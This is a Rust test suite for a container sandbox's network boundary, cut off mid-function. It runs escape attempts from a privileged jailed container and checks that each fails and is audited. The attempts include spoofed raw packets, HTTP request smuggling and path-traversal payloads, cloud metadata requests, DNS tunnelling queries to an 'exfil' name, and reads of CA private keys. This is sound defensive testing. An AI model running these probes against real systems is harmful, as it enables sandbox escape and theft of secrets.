//! Escape attempts from inside a jailed container that holds root,
//! CAP_NET_ADMIN, CAP_NET_RAW, CAP_KILL and the patched seccomp filter.
//! Each one must fail to get a byte to a listener on the test origin or
//! the host, checked by counters there and, where the protocol reaches the
//! sidecar, in the audit log. Slots 200..=209, 216 and 232..=237.

mod escape_world;

use std::net::Ipv4Addr;
use std::process::Command;
use std::time::Duration;

use boundary_tests::hostside;
use boundary_tests::probe::{nslookup_answers, HttpReply};
use boundary_tests::{poll_until, require_tool, Counts, HostSink, LeakSnapshot};
use escape_world::{HostAddress, RawCounter, World, PROBE};

const SCTP: i32 = 132;

#[track_caller]
fn assert_origin_untouched(w: &World, sink: &mut HostSink) {
    assert_eq!(w.origin.counts_after_barrier(), Counts::default(), "something from the jail reached the origin");
    assert_eq!(sink.counts_after_barrier(), (0, 0), "something from the jail reached the host sink on port {}", sink.port);
}

/// UDP datagrams, frames and raw packets at the origin, the sidecar's
/// address, the host's loopback and the metadata address, by every socket
/// type the container can open.
fn send_everything(w: &World, port: u16, targets: &[Ipv4Addr]) {
    let (src, mac) = (w.jail_addr(), w.host_mac());
    let o = w.origin.addr();
    let mut script = String::new();
    for t in targets {
        for p in [port, 7000, 443, 53] {
            script += &format!("{PROBE} packet eth0 {mac} {src} {t} {p}; ");
            script += &format!("{PROBE} raw-udp {src} {t} {p}; ");
            // QUIC's first byte: a long-header Initial.
            script += &format!("{PROBE} udp {t} {p} c00000000108000102030405060708; ");
        }
        script += &format!("{PROBE} raw-proto {t} {SCTP}; {PROBE} raw-proto {t} 253; ");
    }
    // A spoofed source, and the IPv4-mapped IPv6 form of the origin.
    script += &format!("{PROBE} packet eth0 {mac} 192.0.2.77 {o} 7000; {PROBE} raw-udp 192.0.2.77 {o} 7000; ");
    script += &format!("{PROBE} udp ::ffff:{o} 7000 00; {PROBE} udp ::ffff:{o} 443 c0; ");
    script += &format!("{PROBE} sctp {o} 7000; true");
    let out = w.exec(&script);
    for line in out.stdout.lines() {
        // The kernel lets the container send all of these; the boundary
        // must drop them on the host side, not the kernel inside.
        assert!(line.starts_with("sent") || line.starts_with("error: connect") || line.starts_with("error: SCTP socket"), "{line}\n{out}");
    }
    assert!(out.stdout.matches("sent").count() >= targets.len() * 12, "too few probes were sent:\n{out}");
}

#[test]
fn packet_raw_sctp_quic_and_mapped_addresses_do_not_leave() {
    let w = World::start(200, "esc-packets");
    let mut sink = HostSink::bind(20200);
    let _metadata = HostAddress::add("bte200", Ipv4Addr::new(169, 254, 169, 254));
    let origin_sctp = RawCounter::start(Some(&w.origin_netns_path()), SCTP, w.origin.addr());
    let host_sctp = RawCounter::start(None, SCTP, Ipv4Addr::LOCALHOST);
    let rx_before = w.host_rx_packets();

    let targets = [w.origin.addr(), w.sidecar(), w.origin.host_addr(), Ipv4Addr::LOCALHOST, Ipv4Addr::new(169, 254, 169, 254)];
    send_everything(&w, sink.port, &targets);

    assert!(w.host_rx_packets() >= rx_before + 100, "the probes did not even reach the host side of the veth");
    assert_origin_untouched(&w, &mut sink);
    assert_eq!(origin_sctp.count_after_barrier(), 0, "SCTP from the jail reached the origin");
    assert_eq!(host_sctp.count_after_barrier(), 0, "SCTP from the jail reached the host");
    assert_eq!(w.origin.requests(), Vec::<String>::new());
}

/// Control: with the jail's nft table removed, the same frames, raw
/// datagrams and SCTP packets do arrive, so the test above can see a leak.
#[test]
fn the_packet_and_raw_probes_do_detect_a_missing_firewall() {
    let w = World::start(201, "esc-control");
    // The sink and the counter sit on the jail's host side, where the
    // packets arrive once the table is gone (a private host side has no
    // route on to the host's own namespace at all).
    let jail = w.rt.jail(w.id);
    let host_ns = hostside::netns(&jail);
    hostside::loopback_up(&jail);
    let mut sink = HostSink::bind_in(host_ns.as_deref(), 20201);
    let host_sctp = match &host_ns {
        Some(ns) => RawCounter::start_local(ns, SCTP, Ipv4Addr::LOCALHOST),
        None => RawCounter::start(None, SCTP, Ipv4Addr::LOCALHOST),
    };
    hostside::delete_table(&jail);
    let (src, mac, h, p) = (w.jail_addr(), w.host_mac(), w.sidecar(), sink.port);
    w.exec(&format!("{PROBE} packet eth0 {mac} {src} {h} {p}; {PROBE} raw-udp {src} {h} {p}; {PROBE} raw-proto {h} {SCTP}"));
    let (_, udp) = sink.counts_after_barrier();
    assert!(udp >= 6, "without the firewall the host sink should get the frames and raw datagrams (3 each), got {udp}");
    assert!(host_sctp.count_after_barrier() >= 3, "without the firewall the host should get the raw SCTP packets");
    w.rt.delete_force(w.id).ok();
    w.rt.leaks().assert_same_as(&LeakSnapshot::default());
}

/// Flushing routes and rules, a new address, new interfaces, a nested
/// user+network namespace wired to the jail by a veth (the kernel here
/// has no bridge or dummy links to offer): then UDP, TCP, frames and ICMP from the jail and from
/// the nested namespace reach nothing.
#[test]
fn net_admin_reconfiguration_and_nested_namespaces_open_no_path() {
    let w = World::start(202, "esc-netadmin");
    let mut sink = HostSink::bind(20202);
    let (o, h, p, mac) = (w.origin.addr(), w.sidecar(), sink.port, w.host_mac());
    let new_addr = Ipv4Addr::from(u32::from(w.jail_addr()) ^ 0x80); // another address, outside the /30
    w.exec("ip rule flush; ip route flush table main; ip route flush table local; true");
    w.exec("ip rule add from all lookup main; ip rule add from all lookup local").ok();
    w.exec(&format!("ip addr flush dev eth0 && ip addr add {new_addr}/24 dev eth0 && ip link set eth0 up")).ok();
    w.exec(&format!("ip route add {h}/32 dev eth0 && ip route add default via {h} dev eth0")).ok();
    w.exec("ip link add vx0 type veth peer name vx1").ok();
    let out = w.exec(&format!(
        "curl -s --max-time 1 tftp://{o}:7000/x; curl -s --max-time 1 tftp://{h}:{p}/x; \
         echo hi | timeout 2 nc -w 1 {o} 7000; ping -c 1 -W 1 {o}; \
         {PROBE} packet eth0 {mac} {new_addr} {o} 7000; {PROBE} raw-udp {new_addr} {h} {p}; true"
    ));
    assert!(out.stdout.contains("sent 3 frames"), "{out}");

    // A nested user+network namespace holding one end of a veth, the
    // other end bridged with eth0: its packets leave through the jail's
    // veth with addresses of its own choosing.
    let nested = format!(
        "unshare -r -n sh -c 'echo $$ > /dev/shm/nested; sleep 30' & \
         for i in $(seq 50); do [ -s /dev/shm/nested ] && break; sleep 0.1; done; pid=$(cat /dev/shm/nested); \
         ip link add nv0 type veth peer name nv1; ip link set nv1 netns $pid; \
         ip addr add {gw}/24 dev nv0; ip link set nv0 up; \
         nsenter -t $pid -U -n --preserve-credentials sh -c '\
           ip link set lo up; ip link set nv1 up; ip addr add {new2}/24 dev nv1; ip route add default via {gw} dev nv1; \
           curl -s --max-time 1 tftp://{o}:7000/x; curl -s --max-time 1 tftp://{h}:{p}/x; \
           echo hi | timeout 2 nc -w 1 {o} 7000; echo hi | timeout 2 nc -w 1 {h} {p}'; \
         kill $pid; echo nested-done",
        new2 = Ipv4Addr::new(198, 51, 100, 2),
        gw = Ipv4Addr::new(198, 51, 100, 1),
    );
    let out = w.exec(&nested);
    assert!(out.stdout.contains("nested-done"), "{out}");
    // Links moved between the jail and a nested namespace stay behind
    // the same veth: probe again after trying.
    w.exec(&format!("unshare -r -n sh -c 'ip link add nx0 type veth peer name nx1 netns 1'; ip link set nx1 up; \
        {PROBE} packet nx1 {mac} {new_addr} {o} 7000; true"));

    assert_origin_untouched(&w, &mut sink);
}

fn http(w: &World, args: &str) -> HttpReply {
    let out = w.exec(&format!("curl -sS --max-time 10 -D - {args}"));
    HttpReply::parse(&out.stdout).unwrap_or_else(|| panic!("not an HTTP reply:\n{out}"))
}

/// All TCP, to any address and port, lands on the proxy: direct IPs on
/// several ports, IPv4-mapped destinations, CONNECT to a port no rule
/// allows, non-HTTP bytes to 80 and 443, a smuggled request after an
/// allowed one, path confusion, the sidecar's own address on other ports.
#[test]
fn tcp_to_any_address_and_port_is_judged_by_the_proxy() {
    let w = World::start(203, "esc-tcp");
    let mut sink = HostSink::bind(20203);
    let (o, h, p) = (w.origin.addr(), w.sidecar(), sink.port);

    // Allowed, to show the world works.
    assert_eq!(http(&w, "http://origin.test/allowed/ok").status, 200);

    // Direct IP, several ports: HTTP gets 403, other bytes are closed.
    for port in [80, 443, 7000, 22, 8080, 5432] {
        let r = http(&w, &format!("http://{o}:{port}/allowed/ip"));
        assert_eq!((r.status, r.header("x-boundary-decision")), (403, Some("deny")), "port {port}: {r:?}");
        let reply = w.probe(&format!("tcp {o} {port} 'SSH-2.0-OpenSSH_9.0\\r\\n'"));
        assert!(reply == "reply:" || reply.starts_with("error"), "non-HTTP bytes to {o}:{port} got an answer: {reply}");
    }
    // The origin's name on a port no rule allows.
    let r = http(&w, "http://origin.test:7000/allowed/port");
    assert_eq!(r.status, 403, "{r:?}");
    // IPv4-mapped IPv6 destinations.
    let r = http(&w, &format!("'http://[::ffff:{o}]/allowed/mapped'"));
    assert_eq!(r.status, 403, "{r:?}");
    let r = http(&w, &format!("--resolve origin.test:7000:[::ffff:{o}] http://origin.test:7000/allowed/mapped"));
    assert_eq!(r.status, 403, "{r:?}");
    // CONNECT to a port no rule allows, to a denied host, and CONNECT to
    // an allowed port followed by bytes that are neither TLS nor HTTP.
    let reply = w.probe(&format!("tcp {o} 80 'CONNECT origin.test:7000 HTTP/1.1\\r\\nHost: origin.test:7000\\r\\n\\r\\nhello'"));
    assert!(reply.starts_with("reply: HTTP/1.1 403") && !reply.contains("hello"), "{reply}");
    let inner = "GET /allowed/tunnel HTTP/1.1\\r\\nHost: origin.test:7000\\r\\n\\r\\n";
    let reply = w.probe(&format!("tcp {o} 80 'CONNECT origin.test:7000 HTTP/1.1\\r\\nHost: origin.test:7000\\r\\n\\r\\n{inner}'"));
    assert!(reply.contains("HTTP/1.1 403") && !reply.contains("origin saw"), "a request in a CONNECT tunnel to port 7000 was not refused: {reply}");
    let reply = w.probe(&format!("tcp {o} 443 'CONNECT denied.test:443 HTTP/1.1\\r\\nHost: denied.test:443\\r\\n\\r\\n'"));
    assert!(reply.starts_with("reply: HTTP/1.1 403"), "{reply}");
    let reply = w.probe(&format!("tcp {o} 80 'CONNECT origin.test:443 HTTP/1.1\\r\\nHost: origin.test:443\\r\\n\\r\\nSSH-2.0-x\\r\\n'"));
    assert!((reply.starts_with("reply: HTTP/1.1 200") || reply.starts_with("reply: HTTP/1.1 403")) && !reply.contains("SSH"), "{reply}");
    // Non-HTTP bytes to 80 and 443 of an allowed name's address.
    for port in [80, 443] {
        let reply = w.probe(&format!("tcp {o} {port} '\\x00\\x01binary\\xff\\r\\n\\r\\n'"));
        assert_eq!(reply, "reply:", "port {port}");
    }
    // A smuggled request after an allowed one on one connection.
    let smuggle = "GET /allowed/first HTTP/1.1\\r\\nHost: origin.test\\r\\n\\r\\n\
POST /allowed/second HTTP/1.1\\r\\nHost: origin.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n\
GET /private/smuggled HTTP/1.1\\r\\nHost: origin.test\\r\\n\\r\\n";
    let reply = w.probe(&format!("tcp {o} 80 '{smuggle}'"));
    assert!(reply.starts_with("reply: HTTP/1.1 200") && reply.contains("HTTP/1.1 400"), "{reply}");
    // Path confusion, sent as is.
    for path in ["/allowed/..%2Fprivate", "/allowed/../private", "/allowed/%2e%2e/private", "/allowed/..%2f..%2fprivate"] {
        let r = http(&w, &format!("--path-as-is 'http://origin.test{path}'"));
        assert_eq!(r.status, 403, "{path}: {r:?}");
        let r = http(&w, &format!("--path-as-is 'https://origin.test{path}'"));
        assert_eq!(r.status, 403, "{path}: {r:?}");
    }
    // Allowed once `..` is resolved, and sent resolved, so the origin sees
    // the path the rules judged; `..;` (Tomcat's `..`) is refused.
    let r = http(&w, "--path-as-is 'http://origin.test/private/../allowed/dots'");
    assert_eq!(r.status, 200, "{r:?}");
    let r = http(&w, "--path-as-is 'http://origin.test/allowed/..;/private'");
    assert_eq!(r.status, 403, "{r:?}");
    // The sidecar's own address, other ports.
    for port in [22, 8080, 15001, 15053, p] {
        let r = http(&w, &format!("http://{h}:{port}/"));
        assert_eq!(r.status, 403, "sidecar port {port}: {r:?}");
    }

    assert_eq!(
        w.origin.requests(),
        ["http GET /allowed/ok host=origin.test", "http GET /allowed/first host=origin.test", "http GET /allowed/dots host=origin.test"],
        "the origin must see only the allowed requests"
    );
    let allowed_only = Counts { http_requests: 3, ..Counts::default() };
    assert_eq!(w.origin.counts_after_barrier(), allowed_only, "something but the three allowed requests reached the origin");
    assert_eq!(sink.counts_after_barrier(), (0, 0), "something from the jail reached the host sink");
    let audit = w.rt.audit_records(w.id);
    for (what, f) in [
        ("a non-HTTP refusal", Box::new(|r: &boundary_contract::AuditRecord| r.kind == "tcp" && r.decision == "deny") as Box<dyn Fn(&_) -> bool>),
        ("the smuggling refusal", Box::new(|r: &boundary_contract::AuditRecord| r.status == Some(400))),
        ("the CONNECT refusal", Box::new(|r: &boundary_contract::AuditRecord| r.method.as_deref() == Some("CONNECT") && r.decision == "deny")),
        (
            "the path confusion refusal",
            Box::new(|r: &boundary_contract::AuditRecord| r.url.as_deref().is_some_and(|u| u.contains("..%2Fprivate")) && r.decision == "deny"),
        ),
    ] {
        assert!(audit.iter().any(f), "no audit record for {what}: {audit:#?}");
    }
}

/// The host's loopback and the cloud metadata address (given to a host
/// dummy link here, so a leak would land on the host sink), even under
/// `domain=*`.
#[test]
fn host_loopback_and_metadata_are_unreachable_even_under_domain_star() {
    let w = World::start_with(204, "esc-meta", |s| s.default_rule("domain=*"), |b| b);
    let mut sink = HostSink::bind(20204);
    let _metadata = HostAddress::add("bte204", Ipv4Addr::new(169, 254, 169, 254));
    let p = sink.port;
    let o = w.origin.addr();
    let mut answered = 0;
    for host in ["127.0.0.1", "169.254.169.254", "localhost", "0.0.0.0", "[::ffff:127.0.0.1]", "[::1]", "2130706433", "0x7f.1"] {
        // Straight at the address (the container's own loopback for some),
        // and through the proxy with that Host.
        for extra in ["", &format!("--connect-to ::{o}:80")] {
            let out = w.exec(&format!("curl -sS --max-time 10 -D - {extra} 'http://{host}:{p}/latest/meta-data/'"));
            if let Some(r) = HttpReply::parse(&out.stdout) {
                assert!(r.status == 403 || r.status == 502 || r.status == 400, "{host} {extra}: {r:?}");
                answered += 1;
            }
        }
    }
    assert!(answered >= 6, "too few of the requests reached the sidecar ({answered})");
    // route_localnet trickery inside: /proc/sys is read-only for the
    // container, and a frame to 127.0.0.1 is dropped on the host side.
    let out = w.exec("echo 1 > /proc/sys/net/ipv4/conf/eth0/route_localnet");
    assert!(!out.success(), "the container could set route_localnet:\n{out}");
    w.exec(&format!("ip route add 127.0.0.1/32 via {} dev eth0 table main; true", w.sidecar()));
    let (src, mac) = (w.jail_addr(), w.host_mac());
    w.exec(&format!(
        "{PROBE} packet eth0 {mac} {src} 127.0.0.1 {p}; {PROBE} packet eth0 {mac} {src} 169.254.169.254 {p}; \
         {PROBE} raw-udp {src} 127.0.0.1 {p}; {PROBE} udp 169.254.169.254 {p} 00"
    ));
    assert_eq!(sink.counts_after_barrier(), (0, 0), "the host's loopback or the metadata address was reached");
    let refusals = w.rt.audit_records(w.id).into_iter().filter(|r| r.decision == "deny" || r.status == Some(502)).count();
    assert!(refusals >= answered, "the refusals must be audited: {:#?}", w.rt.audit_records(w.id));
}

/// The CA key, the sidecar's config and policy, the jail record and the
/// audit log: not reachable by path from inside, not even by guessing.
#[test]
fn the_boundarys_files_cannot_be_read_or_written_from_inside() {
    let w = World::start(205, "esc-files");
    let dirs = &w.rt.dirs;
    let secrets = [
        dirs.ca_dir.join("ca.key"),
        dirs.ca_dir.join("ca.pem"),
        dirs.state_root.join(w.id).join("sidecar.json"),
        dirs.state_root.join(w.id).join("jail.json"),
        w.rt.audit_path(w.id),
        w.rt.config_file.clone(),
    ];
    for s in &secrets {
        assert!(s.exists(), "{} should exist on the host", s.display());
        let path = s.display();
        let out = w.exec(&format!("cat {path}"));
        assert!(!out.success() && out.stdout.is_empty(), "{path} is readable inside:\n{out}");
        let out = w.exec(&format!("echo x >> {path}"));
        assert!(!out.success(), "{path} is writable inside:\n{out}");
    }
    let out = w.exec("find / -xdev \\( -name 'ca.key' -o -name 'sidecar.json' -o -name '*.jsonl' \\) 2>/dev/null; true");
    assert_eq!(out.stdout.trim(), "", "{out}");
    let out = w.exec("grep -rl 'PRIVATE KEY' /etc /tmp /root 2>/dev/null; true");
    assert_eq!(out.stdout.trim(), "", "{out}");
    // The sidecar's processes are not in the container's /proc.
    for pid in w.sidecar_pids() {
        let out = w.exec(&format!("cat /proc/{pid}/cmdline"));
        assert!(!out.stdout.contains("boundary-sidecar"), "{out}");
    }
    let key = std::fs::read(&secrets[0]).expect("read ca.key");
    assert!(!key.is_empty());
}

/// In its own pid namespace (the normal case) the container cannot name
/// the sidecar's pids: kill and ptrace fail, the sidecar lives on.
#[test]
fn signals_and_ptrace_cannot_reach_the_sidecar() {
    let w = World::start(206, "esc-signal");
    let pids = w.sidecar_pids();
    assert!(!pids.is_empty());
    for pid in &pids {
        let out = w.exec(&format!("kill -9 {pid}"));
        assert!(!out.success(), "kill -9 {pid} succeeded inside:\n{out}");
        let line = w.probe(&format!("ptrace {pid}"));
        assert!(line.starts_with("error:"), "ptrace {pid}: {line}");
    }
    w.exec("kill -9 -1; true"); // every process the container may signal
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(w.sidecar_pids(), pids, "a sidecar process died");
    for pid in &pids {
        assert!(std::path::Path::new(&format!("/proc/{pid}")).exists(), "sidecar pid {pid} is gone");
    }
}

/// Each jail's sidecar worker runs as a uid and gid of its own (the
/// default `sidecar.worker_id_base` plus its link lease's index), never
/// the host's `nobody`: a process with one worker's ids, which a worker
/// taken over through a parser bug would be, can signal that worker and no
/// other; `nobody`, which a container sharing the host's pid namespace
/// often runs as, can signal neither.
#[test]
fn each_jails_worker_has_ids_of_its_own_and_can_signal_no_other_worker() {
    const BASE: u32 = 2_000_000_000; // the default sidecar.worker_id_base
    let w = World::start(216, "esc-uid-a");
    w.rt.create_and_start(&boundary_tests::Bundle::sleeper().docker_capabilities(), "esc-uid-b");
    let worker = |id: &str| w.rt.sidecar_worker(id);
    let ((pa, ua, ga), (pb, ub, gb)) = (worker("esc-uid-a"), worker("esc-uid-b"));
    let (ia, ib) = (w.rt.jail("esc-uid-a").index, w.rt.jail("esc-uid-b").index);
    assert_eq!((ua, ga), (BASE + ia, BASE + ia), "esc-uid-a's worker (lease {ia})");
    assert_eq!((ub, gb), (BASE + ib, BASE + ib), "esc-uid-b's worker (lease {ib})");
    assert_ne!(ua, ub, "two live jails' workers share an identity");
    // `kill -0`: the kernel's permission check alone, nothing delivered.
    let setpriv = require_tool("setpriv");
    let may_signal = |uid: u32, gid: u32, pid: i32| -> bool {
        let out = Command::new(&setpriv)
            .args([format!("--reuid={uid}"), format!("--regid={gid}"), "--clear-groups".into(), "sh".into(), "-c".into(), format!("kill -0 {pid}")])
            .output()
            .expect("setpriv");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(out.status.success() || err.contains("ermi"), "uid {uid} kill -0 {pid}: not a permission refusal: {err}");
        out.status.success()
    };
    assert!(may_signal(ua, ga, pa), "control: a worker's own uid may signal it");
    assert!(!may_signal(ua, ga, pb), "esc-uid-a's worker uid may signal esc-uid-b's worker");
    assert!(!may_signal(ub, gb, pa), "esc-uid-b's worker uid may signal esc-uid-a's worker");
    for pid in [pa, pb] {
        assert!(!may_signal(65534, 65534, pid), "nobody may signal worker {pid}");
    }
    assert_eq!((worker("esc-uid-a").0, worker("esc-uid-b").0), (pa, pb), "a worker was restarted");
    assert_eq!(http(&w, "http://origin.test/allowed/uid").status, 200, "the jail still serves");
    w.rt.delete_force("esc-uid-b").ok();
}

/// A spec that would share the host's pid namespace (no `pid` entry, or
/// the host's by path) is refused by default, before anything is made:
/// from there the container could reach host processes' Unix sockets
/// under `/proc/<pid>/root`, past the network boundary.
#[test]
fn the_host_pid_namespace_is_refused_unless_the_config_allows_it() {
    boundary_tests::require_root();
    let rt = boundary_tests::Runtime::new(boundary_tests::Settings::new(217));
    // The test's own pid namespace, the runtime's (the host's).
    let ours = format!("/proc/{}/ns/pid", std::process::id());
    let host_pid = |b: boundary_tests::Bundle| {
        b.edit(|s| {
            for n in s["linux"]["namespaces"].as_array_mut().expect("namespaces") {
                if n["type"] == "pid" {
                    n["path"] = serde_json::json!(ours);
                }
            }
        })
    };
    for (what, bundle) in [
        ("no pid entry".to_string(), without_pid_namespace(boundary_tests::Bundle::sleeper())),
        (format!("joins the pid namespace {ours}"), host_pid(boundary_tests::Bundle::sleeper())),
    ] {
        let out = rt.create(&bundle, "esc-nopid").failed();
        let errors = out.log_errors();
        assert!(
            errors.iter().any(|e| e.contains(&what) && e.contains("/proc/<pid>/root") && e.contains("allow_host_pid_namespace = true")),
            "{what}: the refusal must name the problem and the setting:\n{out}"
        );
        assert!(!rt.state("esc-nopid").success(), "{what}: the container exists");
    }
    rt.leaks().assert_same_as(&LeakSnapshot::default());
}

/// A container sharing the host's pid namespace (a spec that asks for
/// more, and a config that allows it) sees the sidecar; ptrace fails (no CAP_SYS_PTRACE, not dumpable)
/// and killing it only fails closed.
#[test]
fn with_the_host_pid_namespace_killing_the_sidecar_only_fails_closed() {
    let w = World::start_with(
        207,
        "esc-hostpid",
        |s| s.allow_host_pid_namespace(true),
        without_pid_namespace,
    );
    let mut sink = HostSink::bind(20207);
    assert_eq!(http(&w, "http://origin.test/allowed/before").status, 200);
    let pids = w.sidecar_pids();
    let ps = w.exec("ps -o pid,args").ok();
    assert!(ps.stdout.contains("boundary-sidecar"), "with the host pid namespace the sidecar is visible:\n{ps}");
    for pid in &pids {
        let line = w.probe(&format!("ptrace {pid}"));
        assert!(line.starts_with("error:"), "ptrace {pid} from inside: {line}");
        let out = w.exec(&format!("cat /proc/{pid}/environ /proc/{pid}/mem"));
        assert!(out.stdout.is_empty(), "read the sidecar's memory or environment:\n{out}");
    }
    for pid in &pids {
        w.exec(&format!("kill -9 {pid}"));
    }
    poll_until(Duration::from_secs(5), "the sidecar to be gone", || w.sidecar_pids().is_empty().then_some(()));
    let o = w.origin.addr();
    let out = w.exec(&format!("curl -sS --max-time 3 --resolve origin.test:80:{o} http://origin.test/allowed/after"));
    assert!(!out.success(), "with the sidecar killed nothing may get through:\n{out}");
    let out = w.exec(&format!("curl -sS --max-time 3 --resolve origin.test:443:{o} https://origin.test/allowed/after"));
    assert!(!out.success(), "{out}");
    w.exec(&format!("{PROBE} udp {o} 7000 00; nslookup -timeout=1 origin.test {o}; true"));
    assert_eq!(w.origin.requests(), ["http GET /allowed/before host=origin.test"]);
    assert_eq!(w.origin.counts_after_barrier(), Counts { http_requests: 1, ..Counts::default() });
    assert_eq!(sink.counts_after_barrier(), (0, 0));
}

/// DNS to Docker's resolver address and to an IPv6 resolver: the
/// former answered by the sidecar or nobody, the latter dropped.
#[test]
fn dns_tunnelling_via_127_0_0_11_and_ipv6_resolvers_reaches_no_resolver() {
    let w = World::start(208, "esc-dns");
    let sidecar = w.sidecar().to_string();
    let label = "a".repeat(60);
    for server in ["127.0.0.11", &sidecar, &w.origin.addr().to_string(), "192.0.2.53"] {
        let out = w.exec(&format!("nslookup -timeout=2 {label}.exfil.denied.example {server}"));
        let answers = nslookup_answers(&out.stdout);
        assert!(answers.iter().all(|a| *a == sidecar), "{server}: {out}");
        // Any address but the jail's own loopback (127.0.0.11 outside
        // Docker's shape, where no table sends it out) is answered, by the
        // sidecar: no answer at all would prove nothing.
        if server != "127.0.0.11" {
            assert!(!answers.is_empty(), "{server}: the sidecar did not answer: {out}");
        }
    }
    // IPv6: give the jail an address and route as it could itself.
    let jail = w.rt.jail(w.id);
    let host6 = "fd00:213:208::1";
    let ip = require_tool("ip");
    let ok = |c: &mut Command| assert!(c.status().expect("ip").success());
    hostside::ip(&jail, &["-6", "addr", "add", &format!("{host6}/64"), "dev", &jail.host_if, "nodad"]);
    // (From outside with nsenter: busybox `ip` has no `nodad`.)
    let ns = format!("--net={}", jail.netns_path.display());
    let nsenter = require_tool("nsenter");
    let mac = w.host_mac();
    for args in [
        vec!["-6", "addr", "add", "fd00:213:208::2/64", "dev", "eth0", "nodad"],
        vec!["-6", "route", "add", "default", "via", host6, "dev", "eth0"],
        vec!["-6", "neigh", "replace", host6, "lladdr", &mac, "dev", "eth0", "nud", "permanent"],
    ] {
        ok(Command::new(&nsenter).arg(&ns).arg(&ip).args(&args));
    }
    let o6 = w.origin.addr6();
    w.exec(&format!("nslookup -timeout=2 {label}.exfil.denied.example {o6}; nslookup -timeout=2 x.denied.example {host6}; true"));
    assert_eq!(w.origin.counts_after_barrier().dns_queries, 0, "a query reached the origin's resolver");
    let dns: Vec<_> = w.rt.audit_records(w.id).into_iter().filter(|r| r.kind == "dns").collect();
    assert!(dns.iter().all(|r| r.decision == "deny"), "{dns:#?}");
    assert!(!dns.is_empty(), "the sidecar's answers must be audited");
}

/// Another jailed container on the same host, listening on TCP and UDP:
/// nothing from the first jail reaches it (by address, by frame, by
/// name), while its own loopback shows the TCP listener working before
/// the attempts and after them (so "nothing arrived" is not a listener
/// that was down).
#[test]
fn another_jailed_container_is_not_reachable_from_a_jail() {
    let w = World::start(209, "esc-a");
    let other = boundary_tests::Bundle::sleeper().docker_capabilities();
    w.rt.create_and_start(&other, "esc-b");
    let b = w.rt.jail("esc-b").jail_addr;
    let listen = "(while true; do nc -l -p 7000 >> /dev/shm/tcp; done) > /dev/null 2>&1 & \
                  (while true; do nc -u -l -p 7001 >> /dev/shm/udp; done) > /dev/null 2>&1 & \
                  echo listening";
    assert!(w.rt.exec("esc-b", listen).ok().stdout.contains("listening"));
    // Over the other container's own loopback, sent again until it lands:
    // each connection ends one `nc -l`, and the loop starts the next.
    let control = |word: &str| {
        poll_until(Duration::from_secs(10), &format!("{word:?} over the other container's loopback"), || {
            w.rt.exec("esc-b", &format!("echo {word} | nc -w 1 127.0.0.1 7000; true"));
            let out = w.rt.exec("esc-b", "cat /dev/shm/tcp 2>/dev/null; true");
            out.stdout.lines().any(|l| l == word).then_some(())
        })
    };
    control("ready");
    let (src, mac) = (w.jail_addr(), w.host_mac());
    w.exec(&format!(
        "curl -s --max-time 3 http://{b}:7000/; echo hi | timeout 2 nc -w 1 {b} 7000; \
         curl -s --max-time 3 --connect-to ::{b}:7000 http://origin.test/allowed/x; \
         {PROBE} udp {b} 7001 6869; {PROBE} packet eth0 {mac} {src} {b} 7001; {PROBE} raw-udp {src} {b} 7001; \
         ping -c 1 -W 1 {b}; true"
    ));
    std::thread::sleep(Duration::from_millis(300));
    let got = w.rt.exec("esc-b", "cat /dev/shm/tcp /dev/shm/udp 2>/dev/null; true").ok();
    assert!(got.stdout.lines().all(|l| l == "ready"), "bytes from one jail reached another:\n{got}");
    control("control");
    let denied = w.rt.audit_records(w.id).into_iter().filter(|r| r.decision == "deny").count();
    assert!(denied >= 2, "the attempts through the proxy must be audited: {:#?}", w.rt.audit_records(w.id));
    w.rt.delete_force("esc-b").ok();
}

/// One of the host's own non-loopback addresses (the host end of the
/// origin's link) behind a name no rule allows, though the sidecar would
/// resolve it there: the container's lookup is answered with the sidecar's
/// address, and requests for the name aimed at the host's address (HTTP,
/// HTTPS, and the bare address) are refused by the proxy, audited, and
/// never reach a listener on the host, on a port the rules do allow. A
/// control jail whose rules allow the name does reach that listener
/// through the sidecar, so the listener would see a leak. (The rules given
/// here replace the world's: the last `BOUNDARY_ALLOW` in `process.env`
/// is the one read, as `rewrite::env_value` does.)
#[test]
fn the_hosts_own_address_behind_a_name_no_rule_allows_is_unreachable() {
    let host = Ipv4Addr::new(10, 231, 232, 1);
    let w = World::start_with(232, "esc-hostname", |s| s.pin("hostself.test", host), |b| b.env("BOUNDARY_ALLOW", "domain=origin.test port=80,443,20232"));
    assert_eq!(w.origin.host_addr(), host, "the host end of the origin link");
    let mut sink = HostSink::bind(20232);
    let p = sink.port;
    let sidecar = w.sidecar();
    let out = w.exec("nslookup hostself.test");
    assert_eq!(nslookup_answers(&out.stdout), [sidecar.to_string()], "a name no rule allows must resolve to the sidecar only:\n{out}");
    for (what, args) in [
        ("by name", format!("http://hostself.test:{p}/")),
        ("by name at the host's address", format!("--resolve hostself.test:{p}:{host} http://hostself.test:{p}/")),
        ("the bare address", format!("http://{host}:{p}/")),
    ] {
        let r = http(&w, &args);
        assert_eq!(r.status, 403, "{what}: {r:?}");
    }
    let out = w.exec(&format!("curl -sS -k --max-time 10 -D - --resolve hostself.test:{p}:{host} https://hostself.test:{p}/"));
    let r = HttpReply::parse(&out.stdout).unwrap_or_else(|| panic!("HTTPS for the name: no HTTP reply from the sidecar:\n{out}"));
    assert_eq!(r.status, 403, "HTTPS by name at the host's address: {r:?}");
    assert_eq!(sink.counts_after_barrier(), (0, 0), "the host's own address was reached");
    let denied = w.rt.audit_records(w.id).into_iter().filter(|r| r.kind != "dns" && r.decision == "deny").count();
    assert!(denied >= 4, "every refusal must be audited: {:#?}", w.rt.audit_records(w.id));

    // The control: the same name allowed, the same listener reached.
    let c = World::start_with(233, "esc-hostname-ok", |s| s.pin("hostself.test", Ipv4Addr::new(10, 231, 233, 1)), |b| b.env("BOUNDARY_ALLOW", "domain=hostself.test port=20233"));
    let mut reached = HostSink::bind(20233);
    c.exec("curl -sS --max-time 3 -o /dev/null http://hostself.test:20233/; true");
    let (tcp, _) = reached.counts_after_barrier();
    assert!(tcp >= 1, "with a rule allowing the name, the sidecar must connect to the host's listener (else this test could not see a leak)");
}

/// Links in the network namespace at `ns` (`ip -o link`), by name.
fn links_in(ns: &std::path::Path) -> Vec<String> {
    let out = Command::new(require_tool("nsenter")).arg(format!("--net={}", ns.display())).args([require_tool("ip").to_str().unwrap(), "-o", "link"]).output().expect("run ip");
